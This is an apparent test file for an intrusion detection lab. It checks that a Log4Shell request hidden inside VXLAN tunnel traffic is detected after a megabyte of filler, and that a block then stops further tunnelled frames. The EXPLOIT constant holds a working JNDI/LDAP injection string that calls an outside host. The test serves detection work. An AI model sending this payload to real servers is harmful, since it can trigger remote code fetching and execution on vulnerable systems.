"""What is in a tunnel is inspected however much of it has passed, by whichever worker, and a block holds within it."""

from __future__ import annotations

import socket

import pytest
from scapy.layers.inet import IP, UDP

from ids.lab.guard import Guard, rules_directory
from ids.lab.topology import ATTACKERS, SERVER, Lab
from tests.kernel import packets as p
from tests.lab.clients import PATIENCE_S, SILENCE_S

pytestmark = [pytest.mark.root, pytest.mark.lab, pytest.mark.xdp]

VXLAN = b"\x08\0\0\0\0\0\x2a\0"
PORT = 4789
EXPLOIT = b"GET /?x=${jndi:ldap://203.0.113.66/a} HTTP/1.1\r\nHost: shop.example\r\n\r\n"
NOISE = p.wire(IP(src="192.0.2.99", dst=p.SERVER), UDP(sport=1, dport=2), bytes(1300))
MEGABYTE = range(800)


@pytest.mark.parametrize("workers", [1, 2])
def test_an_exploit_behind_a_megabyte_in_a_tunnel(lab: Lab, workers: int) -> None:
    rules = {"paths": [str(rules_directory() / "log4shell.yaml")]}
    guard = Guard(lab, rules=rules, engine={"workers": workers})
    guard.start()
    with (
        lab.attacker.socket(socket.AF_INET, socket.SOCK_DGRAM) as here,
        lab.server.socket(socket.AF_INET, socket.SOCK_DGRAM) as there,
        lab.server.socket(socket.AF_INET, socket.SOCK_DGRAM) as answers,
    ):
        here.bind((ATTACKERS[0], PORT))
        there.bind((SERVER, PORT))
        here.settimeout(PATIENCE_S)
        there.settimeout(PATIENCE_S)
        for _ in MEGABYTE:  # in step, so that no queue overflows
            here.sendto(VXLAN + NOISE, (SERVER, PORT))
            assert there.recv(4096)
        for number, frame in enumerate(
            (
                p.wire(p.IP4, p.tcp("S", seq=1000)),
                p.wire(p.IP4_BACK, p.reply("SA", seq=5000, ack=1001)),
                p.wire(p.IP4, p.tcp("A", seq=1001, ack=5001)),
                p.wire(p.IP4, p.tcp("PA", seq=1001, ack=5001), EXPLOIT),
            )
        ):
            if number == 1:  # from a port of its own, as routers like it
                answers.sendto(VXLAN + frame, (ATTACKERS[0], PORT))
                assert here.recv(4096)
            else:
                here.sendto(VXLAN + frame, (SERVER, PORT))
                assert there.recv(4096)
        alert = guard.wait_for(lambda event: event["event_type"] == "alert", PATIENCE_S)
        assert alert is not None
        assert (alert["src_ip"], alert["tunnel"]["src_ip"]) == (p.CLIENT, ATTACKERS[0])
        guard.command("block", "add", p.CLIENT, "--for", "1h")
        here.sendto(VXLAN + frame, (SERVER, PORT))
        there.settimeout(SILENCE_S)
        with pytest.raises(TimeoutError):
            there.recv(4096)
        there.settimeout(PATIENCE_S)
        here.sendto(VXLAN + NOISE, (SERVER, PORT))
        assert there.recv(4096)
    counts = guard.kernel_packets()
    assert (counts["drop.blocked"], counts["note.blocked_in_tunnel"]) == (1, 1)
